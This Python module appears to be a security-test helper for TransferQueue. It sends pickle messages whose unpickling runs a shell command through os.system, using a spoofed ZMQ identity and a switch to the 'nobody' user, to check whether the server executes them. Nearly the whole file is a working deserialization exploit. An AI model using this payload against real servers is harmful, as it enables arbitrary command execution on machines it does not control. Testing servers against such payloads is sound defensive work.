"""Sends messages to TransferQueue that run a command when they are unpickled, as another user of the machine would."""

import os
import pickle

import ray
import zmq
from msgspec import msgpack

#: The user id of "nobody".
OTHER_USER = 65534
#: Milliseconds until a server that does not answer counts as hung.
_HUNG = 60_000


class _Command:
    def __init__(self, command):
        self._command = command

    def __reduce__(self):
        return os.system, (self._command,)


def messages(command, tag=()):
    """The frames of both kinds of messages: TransferQueue unpickles the whole message, or a value in it."""
    payload = pickle.dumps(_Command(command))
    return [[b"\xc1\xfe\xed", payload, *tag], [msgpack.encode({"body": msgpack.Ext(1, payload)}), *tag]]


def attack(address, command, last, answers):
    """Send all messages to ``address``, each without a tag and with a wrong one, and then the frames ``last``.

    The server handles the messages of a connection in their order, so it has handled all of them when it answers to
    ``last``. Puts (user id, number of answers) into ``answers``.
    """
    if os.geteuid() == 0:
        os.setuid(OTHER_USER)
    socket = zmq.Context().socket(zmq.DEALER)
    socket.setsockopt(zmq.IDENTITY, b"TQ_STORAGE_attack")  # otherwise, storage drops the message
    socket.setsockopt(zmq.RCVTIMEO, _HUNG)
    socket.connect(address)
    sent = [*messages(command), *messages(command, [bytes(32)]), [b""], last]
    for frames in sent:
        socket.send_multipart(frames)
    count = 0
    while True:
        frames = socket.recv_multipart()
        count += 1
        if last_answered(frames):
            break
    answers.put((os.geteuid(), count))


def last_answered(frames):
    """Whether these frames answer to a message that was accepted. TransferQueue answers to others with an error."""
    return b"undecodable request" not in frames[0]


def decode_without_ray():
    from transfer_queue.utils.zmq_utils import ZMQMessage

    try:
        ZMQMessage.deserialize(messages("false", [bytes(32)])[0])
    except RuntimeError as error:
        assert "Ray is not initialized" in str(error)
        print(f"Ray is initialized: {ray.is_initialized()}", flush=True)
